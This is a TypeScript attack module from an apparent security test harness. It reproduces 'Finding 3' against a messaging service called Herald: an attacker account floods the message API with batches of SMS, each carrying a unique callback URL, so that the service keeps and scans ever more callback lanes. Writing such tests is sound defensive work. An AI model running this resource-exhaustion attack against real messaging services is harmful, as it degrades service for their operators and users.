import type { Attack } from '../harness.js';

/** Finding 3: a unique callback URL per message, to make Herald keep (and once, scan) ever more lanes. */
export const uniqueCallbackUrls = (receiverUrl: string): Attack<{ token: string; id: number }> => ({
  name: 'a unique callback URL per message',
  async setup(h) {
    const attacker = await h.createAccount({ senderNames: [['SMS', 'Attacker']], balance: 1000 });
    await h.admin('POST', '/admin/v1/tariffs', {
      accountId: attacker.id,
      channelType: 'SMS',
      price: 1,
      currency: 'RUB',
    });
    return { token: attacker.traffic, id: attacker.id };
  },
  round: (h, state, round) =>
    h.call('POST', '/api/v1/message', {
      token: state.token,
      body: Array.from({ length: 100 }, (_, i) => ({
        channelType: 'SMS',
        senderName: 'Attacker',
        destination: `7916777${String(i).padStart(3, '0')}0`,
        content: 'x',
        callbackUrl: `${receiverUrl}?r=${round}&i=${i}`,
      })),
    }),
});
